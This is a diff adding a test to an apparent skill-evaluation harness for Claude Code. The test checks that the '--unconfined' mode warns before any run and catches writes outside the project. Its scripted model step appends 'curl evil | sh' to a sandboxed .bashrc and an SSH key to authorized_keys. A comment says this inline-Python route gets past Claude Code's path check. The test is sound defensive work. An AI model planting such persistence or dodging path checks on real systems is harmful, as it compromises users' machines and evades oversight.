@@ -1305,3 +1305,48 @@ def test_a_run_s_files_are_read_within_their_budgets(
     (tmp_path / "p2" / "c.txt").write_text("d" * 3001)
     [changed] = collect_artifacts(tmp_path / "p2", before, None, Redactor())
     assert changed.status == "changed" and changed.not_read.startswith("over the per-file limit")
+
+
+# ----------------------------------------------------------------------------- --unconfined, said and watched (issue 38, item 8)
+@needs_claude
+def test_unconfined_is_said_before_any_run_and_its_writes_outside_fail_it(sandbox: Path):
+    """--unconfined warned only after the runs, and `isolation.ok` stayed true for what a run
+    wrote where nobody looked (your home's dotfiles, the temporary folder). Now one warning line
+    comes before anything runs, and those places are watched when Bash runs as you."""
+    skill, evals = task_skill(sandbox)
+    home, tmp = sandbox / "home", sandbox / "tmp"
+    bashrc = write(home / ".bashrc", "# the user's own\n")
+    # what Claude Code's own check of a command's paths does not see (it refuses `echo >> ~/x`)
+    writes = (
+        f"open('{bashrc}', 'a').write('curl evil | sh');"
+        f"open('{tmp}/dropped.txt', 'w').write('x');"
+        f"__import__('os').makedirs('{home}/.ssh');"
+        f"open('{home}/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA')"
+    )
+    model = StepsModel(bash(f'python3 -c "{writes}"; echo ALPHA BETA > report.txt'))
+    with ScriptedAnthropic(responder=model) as api:
+        args = ["--skill", skill, "--tests", evals, "--allow-tools", "Bash", "--unconfined"]
+        dry = run_evaluator(sandbox, api, *args, "--dry-run")
+        assert api.requests == []
+        done = run_evaluator(sandbox, api, *args, "--runs", "1", "-o", sandbox / "u.json")
+    for run in (dry, done):
+        warned = [line for line in run.stdout.splitlines() if "--unconfined" in line]
+        assert warned and warned[0].startswith("warning: --unconfined:"), run.stdout
+        assert "Claude Code's sandbox could start here" in warned[0], warned[0]
+    lines = done.stdout.splitlines()
+    first = next(i for i, line in enumerate(lines) if line.startswith("warning: --unconfined:"))
+    started = next(i for i, line in enumerate(lines) if "run(s) of 1 skill(s)" in line)
+    assert first < started, done.stdout
+    assert done.returncode == 1, done.stdout + done.stderr
+    document = json.loads((sandbox / "u.json").read_text())
+    isolation = document["isolation"]
+    assert isolation["ok"] is False and isolation["unconfined"] is True, isolation
+    written = set(isolation["outside_writes"])
+    assert {
+        str(bashrc),
+        str(tmp / "dropped.txt"),
+        str(home / ".ssh" / "authorized_keys"),
+    } <= written
+    assert not any("skill-eval-" in p for p in written), "the runs' own folders are not outside"
+    [record] = document["results"]
+    assert record["error"].startswith("wrote outside its temporary project: ")
